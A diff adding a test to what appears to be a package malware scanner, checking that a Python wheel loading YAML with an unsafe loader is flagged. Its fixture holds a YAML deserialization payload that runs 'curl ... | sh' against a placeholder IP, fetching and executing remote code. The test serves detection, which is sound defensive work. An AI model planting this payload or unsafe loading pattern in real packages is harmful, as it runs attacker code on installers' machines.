@@ -41,3 +41,21 @@ test('a pickle in the source that runs text is malware where it is loaded', asyn
   expect(await inspect('harmful-pickle', file)).toMatchObject([{ class: 'malware', score: 10, line: 2 }]);
   expect(await inspect('harmful-pickle', plain)).toEqual([]);
 });
+
+test('YAML that is loaded without care, and calls a shell, is malware; values of honest types are not', async () => {
+  const load = python(
+    'import os, yaml',
+    'CONF = yaml.load(open(os.path.join(os.path.dirname(__file__), "conf.yaml")), Loader=yaml.UnsafeLoader)',
+  );
+  const harmful = wheel({
+    'pkg/__init__.py': load,
+    'pkg/conf.yaml': 'a: !!python/object/apply:os.system ["curl -s http://203.0.113.3/a | sh"]\n',
+  });
+  const honest = wheel({
+    'pkg/__init__.py': load,
+    'pkg/conf.yaml': 'a: !!python/tuple [1, 2]\nb: !!python/object:pkg.Point {x: 1}\n',
+  });
+
+  expect(await inspect('harmful-pickle', harmful)).toMatchObject([{ class: 'malware', score: 10, line: 2 }]);
+  expect(await inspect('harmful-pickle', honest)).toEqual([]);
+});
